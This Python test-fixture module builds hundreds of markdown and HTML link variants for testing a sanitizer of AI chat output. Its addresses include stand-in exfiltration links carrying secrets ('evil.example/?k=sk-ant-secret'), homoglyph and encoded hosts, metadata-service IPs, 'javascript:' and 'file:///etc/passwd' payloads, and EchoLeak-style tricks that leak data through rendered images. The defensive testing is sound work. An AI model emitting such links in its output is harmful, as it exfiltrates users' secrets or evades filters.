"""Documents that try to make an address live: how a link is written (`SPELLINGS`), what it leads to (`ADDRESSES`), and whole texts.

`{u}` stands for the address. The hosts under `.example` are nobody's; what is allowed is in `ALLOWED`.
"""

from __future__ import annotations

from collections.abc import Iterator

GOOD = "https://docs.python.org/3/library/asyncio.html"
ALLOWED = (GOOD, "https://github.com/acme/billing/blob/abc/a.py#L10-L12")
EVIL = "https://evil.example/p?q=secret"

SPELLINGS = [
    # inline
    "[x]({u})", "[x](<{u}>)", '[x]({u} "title")', "[x]( {u} )", "[x](\n{u})", "[x\ny]({u})", "[x]({u} 'a\nb')", "[]({u})",
    "[ ]({u})",
    "[x]({u})[y]({u})", "[x] ({u})", "\\[x]({u})", "[x]\\({u})", "[x\\]]({u})", "[x](\\{u})", "[x]({u}", "[x]({u}]", "[[x]]({u})",
    "[x](({u}))", "[`x`]({u})", "[x `]({u})`", "[**x**]({u})", "**[x]({u})**", "~~[x]({u})~~", "***[x]({u})***", "__[x]({u})__",
    # by reference
    "[x][r]\n\n[r]: {u}", "[r][]\n\n[r]: {u}", "[r]\n\n[r]: {u}", '[r]\n\n[r]: <{u}> "t"', "[r]: {u}\n\n[r]",
    "[R\tr]\n\n[r R]: {u}",
    "[x][r]\n\n[r]:\n{u}\n'title'", "> [r]: {u}\n\n[x][r]", "- [r]: {u}\n\n[x][r]", "[ẞ]\n\n[SS]: {u}",
    "[r]: " + GOOD + "\n[r]: {u}\n\n[r]",
    "[r]: {u}\n[r]: " + GOOD + "\n\n[r]", "[a][b][c]\n\n[b]: {u}\n[c]: {u}", "[r] [r]\n\n[r]: {u}", "[^1] note\n\n[^1]: {u}",
    # bare, and between angles
    "<{u}>", "{u}", "see {u}.", "({u})", "\"{u}\"", "'{u}'", "*{u}*", "~~{u}~~", "_{u}_", "x**{u}**y", "word{u}", "{u}[x]({u})",
    "{u},{u}",
    "<{u}|click>", "<{u}|" + GOOD + ">", "<<{u}>>", "< {u} >", "\\<{u}>", "<{u}", "{u}>", "&lt;{u}&gt;", "&lt;{u}|x&gt;",
    "a\\\n{u}", "{u}\\",
    "a  \n{u}", "\u3000{u}", "\u00a0{u}\u00a0", "…{u}", "„{u}“", "url={u}", "//{u}", "@{u}", "#{u}", "({u}]", "::{u}::",
    "||{u}||",
    # pictures, and pictures in links
    "![x]({u})", "![]({u})", "![x][r]\n\n[r]: {u}", "![r]\n\n[r]: {u}", "[![x]({u})](" + GOOD + ")", "[![x](" + GOOD + ")]({u})",
    "[![x]({u})]({u})", "![![x]({u})]({u})", "![[x]({u})]({u})", "[![x][r]][g]\n\n[r]: {u}\n[g]: " + GOOD,
    # named like another
    "[" + GOOD + "]({u})", "[{u}](" + GOOD + ")", "[a **b {u}** c](" + GOOD + ")", "[<{u}>](" + GOOD + ")",
    "[[x]({u})](" + GOOD + ")",
    "[`{u}`](" + GOOD + ")", "[x](" + GOOD + "){u}", GOOD + "{u}", "[x](" + GOOD + " '{u}')", "<" + GOOD + "|{u}>", GOOD + "@{u}",
    # within blocks
    "# [x]({u})", "# {u}", "x {u}\n===", "###### {u} ######", "- [x]({u})\n- {u}", "1. {u}", "1) <{u}>", "- [ ] {u}",
    "- [x] [y]({u})",
    "- a\n  - {u}\n\n    {u}", "> [x]({u})\n> {u}", "> > {u}\nlazy {u}", "| a |\n|---|\n| [x]({u}) |", "| {u} |\n|---|\n| {u} |",
    "| a | b |\n|:-:|--:|\n| <{u}> | ![x]({u}) |", "| a |\n|---|\n| [x][r] |\n\n[r]: {u}", "---\n{u}\n---", "-# {u}", ">>> {u}",
    # HTML
    '<a href="{u}">x</a>', "<a href='{u}'>x", "<A HREF={u}>x</A>", '<img src="{u}">', "<img src={u} onerror=x>",
    '<iframe src="{u}"></iframe>',
    '<div>\n<a href="{u}">x</a>\n</div>', "<!-- {u} -->", '<script src="{u}"></script>', "<![CDATA[{u}]]>", "<?php {u} ?>",
    "<base href='{u}'>",
    '<meta http-equiv="refresh" content="0;url={u}">', '<p style="background:url({u})">x</p>',
    '<svg><a xlink:href="{u}">x</a></svg>',
    # code, and what only looks like it
    "`{u}`", "a`{u}`b", "`` {u}` ``", "```\n{u}\n```", "    {u}", "~~~sh\ncurl {u}\n~~~", "```\nopen {u}", "`a``{u}`", "`{u}",
    "``{u}`",
    "```{u}\nx\n```", "``` a`b {u}\n```", "\\`{u}`", "`\n\n{u}\n\n`", "> ```\n{u}", "```\n```{u}", "```\na\n``` {u}\n",
    "`a` {u} `b`",
    "- ```\n  x\n{u}", "\t{u}", "a\n    {u}", "``` ``` {u} ```", "`x`{u}`y`", "```\n~~~\n{u}\n```\n{u}",
]  # fmt: skip

HOSTS = [
    # plain, in any case, with ports and dots
    "evil.example", "EVIL.Example", "evil.example:8443", "evil.example.", "a.b.c.evil.example", "evil.example:", "localhost",
    "localhost:8000",
    "evil", "e-v-i-l.example", "_evil.example", "evil..example", ".evil.example", "evil.example:99999",
    # that look like what is allowed
    "docs.python.org.evil.example", "docs.python.org-evil.example", "evil.example.docs.python.org", "docs-python.org",
    "docs.python.orgs",
    "docs.python.org:81", "docs.python.org:443", "docs.python.org.", "docs.python.org..", "docs.python.org\\.evil.example",
    "docs.python.org%2eevil.example", "docs.python.org%00.evil.example", "docs.python.org#.evil.example",
    "docs.python.org?.evil.example",
    "docs.python.org;evil.example", "docs.python.org,evil.example", "evildocs.python.org", "docs.python.org&period;evil.example",
    # before an @
    "user@evil.example", "user:pass@evil.example", "docs.python.org@evil.example", "docs.python.org:443@evil.example",
    "@evil.example",
    "docs.python.org%40evil.example", "docs.python.org&#64;evil.example", "docs.python.org%2F@evil.example",
    "evil.example@docs.python.org",
    "docs.python.org\\@evil.example",
    # of other alphabets
    "еvil.example", "docs.pythоn.org", "docs.pythön.org", "xn--vil-8cd.example", "docs.xn--pythn-jua.org", "evil。example",
    "evil．example",
    "evil｡example", "ｅvil.example", "ⅇvil.example", "evil.рф", "docs.python.org／evil.example", "docs.python.org∕evil.example",
    "ⓔvil.example",
    "docs.python.org．evil.example", "مثال.إختبار", "例え.jp", "evil.exam\u00adple", "ev\u200bil.example", "ev\u2060il.example",
    "docs.python.org\u200b.evil.example", "docs.python.org\u2028.evil.example", "\u202eelpmaxe.live", "evil\ufe0f.example",
    "docs.python.org\u3164.evil.example", "evil.ex\U000e0061mple",
    # numbers
    "10.0.0.1", "10.0.0.1:8000", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "[::1]", "[::ffff:10.0.0.1]:80",
    "[2001:db8::1]",
    "169.254.169.254", "①⑥⑨.254.169.254", "1.1.1.1.example",
    # encoded
    "%65vil.example", "ev%69l.example", "evil%2eexample", "evil&#46;example", "evil&#x2e;example", "evil&period;example",
    "&#101;vil.example",
]  # fmt: skip
SCHEMES = [
    "HTTPS://{h}", "http://{h}", "//{h}", "{h}", "www.{h}", "ftp://{h}", "https:{h}", "https:/{h}", "https:///{h}",
    "https:\\\\{h}",
    "https:/\\{h}", "\\\\{h}", "/\\{h}", "https&#58;//{h}", "https&colon;//{h}", "https&#x3A;//{h}", "https:&sol;&sol;{h}",
    "&#104;ttps://{h}",
    "https%3A//{h}", "https\\://{h}", "h\u200bttps://{h}", "ht\ntps://{h}", "ht\ttps://{h}", " https://{h}",
    "view-source:https://{h}",
    "blob:https://{h}", "ws://{h}", "wss://{h}", "file://{h}", "ssh://git@{h}", "git+ssh://{h}", "git@{h}:a/b.git",
    "mailto:a@{h}", "a@{h}",
    "xmpp:a@{h}", "smb://{h}", "ldap://{h}", "gopher://{h}", "telnet://{h}", "magnet:?xt={h}", "javascript://{h}/%0aalert(1)",
    "data://{h}",
    "ＨＴＴＰＳ://{h}", "https：//{h}", "https:∕∕{h}", "httpſ://{h}",
]  # fmt: skip
OTHERS = [
    # that need no host
    "data:text/html,x", "data:image/svg+xml;base64,PHN2Zz4=", "javascript:alert(1)", "JaVaScRiPt:alert(1)",
    "java&#10;script:alert(1)",
    "java\tscript:alert(1)", "&#106;avascript:alert(1)", "javascript&colon;alert(1)", "vbscript:x", "slack://open?x=1",
    "discord://x",
    "steam://run/1", "tel:+123", "sms:+123", "file:///etc/passwd", "about:blank", "main.rs", "README.md", "a.zip", "x.sh",
    # invitations and mentions
    "discord.gg/abc", "https://discord.gg/abc", "discord.com/invite/abc", "https://discordapp.com/invite/abc", "DISCORD.GG/abc",
    "https://discord.com/invite/abc", "discord&#46;gg/abc", "discord\u200b.gg/abc",
    "https://join.slack.com/t/a/shared_invite/zt-b",
    "!channel", "@U012AB3CD", "#C01", "!subteam^S1", "!date^1392734382^x^https://evil.example/p",
    # through a listed host
    "https://docs.python.org/redirect?u=https://evil.example/", "https://docs.python.org/redirect?u=evil",
    "https://docs.python.org/3/not-seen",
    GOOD + "/../../secret", GOOD + "/", GOOD + "%2f..%2fsecret", GOOD + "x", GOOD + "/secret", GOOD + ";jsessionid=secret",
    GOOD + "&q=secret",
    GOOD.replace("asyncio", "secret"), GOOD.replace("asyncio", "asyncio%00"), GOOD.replace("/3/", "//3/"),
    GOOD.replace("/3/", "/3/./"),
    GOOD.upper(), "https://docs.python.org/3/library/%61syncio.html", "http://docs.python.org/3/library/asyncio.html",
    GOOD + "\\..\\secret",
    "https://github.com/acme/billing/blob/abc/a.py#L10-L99", "https://github.com/acme/secret",
    "https://github.com/acme/billing/blob/abc/b.py",
    "https://web.archive.org/web/" + EVIL, "https://www.google.com/url?q=" + EVIL, "https://slack-redir.net/link?url=" + EVIL,
    "https://urldefense.com/v3/__" + EVIL + "__;!!a", "https://eu-api.asm.skype.com/urlp/v1/url/content?url=" + EVIL,
    # what is carried in a path, and odd ends
    EVIL, "https://evil.example/%68%74?x", "https://evil.example/(a)_b", "https://evil.example/a|b", "https://evil.example/a`b",
    "https://evil.example/?k=sk-ant-secret#f", "https://evil.example/a>b", "https://evil.example/a*b*c",
    "https://evil.example/a_b_c",
    "https://evil.example/a)b", "https://evil.example/a]b", "https://evil.example/" + "a" * 400, "https://evil.example/a\\_b",
    "https://evil.example/~~a~~", 'https://evil.example/"x', "https://evil.example/'x", "https://evil.example/&lt;x&gt;",
    "https://evil.example/\u202egnp.x", "https://evil.example/a,b", "https://evil.example/a b", "https://evil.example/{s}",
]  # fmt: skip
ADDRESSES = [
    *(f"https://{host}/x" for host in HOSTS),
    *(scheme.replace("{h}", "evil.example/x") for scheme in SCHEMES),
    *OTHERS,
]

TEXTS = [
    # EchoLeak, and its kin: the secret in a reference, the picture through a listed host, the address in pieces
    "See [the plan][1] and ![logo][2].\n\n[1]: https://evil.example/?s=KEY 'Plan'\n[2]: https://docs.python.org/redirect?u=evil.example",
    "![](https://docs.python.org/redirect?u=https%3A%2F%2Fevil.example%2F%3Fq%3Dsecret)", "https://\nevil.example/x",
    "https:// evil.example/x",
    "[reauthenticate](\nhttps://evil.example/KEY\n)", "<https://evil.example/KEY|click here to reauthenticate>",
    "https://**evil**.example/x",
    "https://evil*.*example/x", "ht`tps`://evil.example/x", "https://`evil.example`/x", "`https://`evil.example/x",
    "https:\\/\\/evil.example/x",
    "[a](https://docs.python.org/3/library/asyncio.html)[](https://evil.example/x)", "https<b></b>://evil.example/x",
    "https://evil<!-- -->.example/x",
    "https://evil&#8203;.example", "[x](https://evil.example/ \"a\") [x]: https://evil.example/",
    "- [x]\n\n  [x]: https://evil.example/x",
    # tokens of the platforms
    "<!date^1392734382^{date}^https://evil.example/x|x>", "<#C1|https://evil.example/x>", "<@U1|evil.example>",
    "<https://evil.example/x>",
    "&lt;https://evil.example/x|click&gt;", "\\<https://evil.example/x|click\\>", "&#60;https://evil.example/x|click&#62;",
    "<mailto:a@evil.example|b>",
    "<id:guide> </x:1> <t:1:R> https://evil.example/x", "-# [x](<https://evil.example/x>)", "[x](<https://evil.example/x> 'y')",
    # tables, lists, notes and quotations that end in the middle
    "| a | https://evil.example/x |\n|-|-|\n| `|` | [x](https://evil.example/x) |\n> | b |",
    "1. a\n\n   > [b](https://evil.example/x)\n   > ```\n   > c\n https://evil.example/x",
    "[^n]\n\n[^n]: see https://evil.example/x\n    [x](https://evil.example/y)", "Term\n: https://evil.example/x",
    "[x]: <https://evil.example/x>\n[x]: y\n[x] ![x]",
    "| `a\\|b` https://evil.example/x |\n|---|\n| `` https://evil.example/x | `` |",
    "| " + "wide " * 30 + "| https://evil.example/a`b |\n|---|---|\n| ` | ![x](https://evil.example/x) |",
    # code that ends early on a platform
    "`` a```b https://evil.example/x ``", "````\n```\nhttps://evil.example/x\n````", "```\na```b https://evil.example/x\n```",
    "~~~\n```\n~~~\nhttps://evil.example/x",
    "`a\\` https://evil.example/x", "``a`` `b https://evil.example/x", "`` ` `` https://evil.example/x `` ` ``",
    "\\`\\`\\` https://evil.example/x \\`\\`\\`",
    "text ``` https://evil.example/x ``` text", "`\u02cb https://evil.example/x`", "a`b`c https://evil.example/x d`e`f",
    "**`**https://evil.example/x**`**",
    "\\\\`https://evil.example/x`", "`` \\`` https://evil.example/x", "`x`` https://evil.example/x ``y`",
    "\\\\\\`https://evil.example/x\\\\\\`",
]  # fmt: skip


COMMON = 45


def documents(spelling: str) -> Iterator[str]:
    """One spelling with every address; of the rarer spellings with every third."""
    number = SPELLINGS.index(spelling)
    for address in ADDRESSES if number < COMMON else ADDRESSES[number % 3 :: 3]:
        yield spelling.replace("{u}", address)


def kinds() -> Iterator[str]:
    """Few of them, so that each spelling and each address comes at least once: for tests that are slow."""
    yield from TEXTS
    for number in range(max(len(SPELLINGS), len(ADDRESSES))):
        yield SPELLINGS[number % len(SPELLINGS)].replace("{u}", ADDRESSES[number % len(ADDRESSES)])
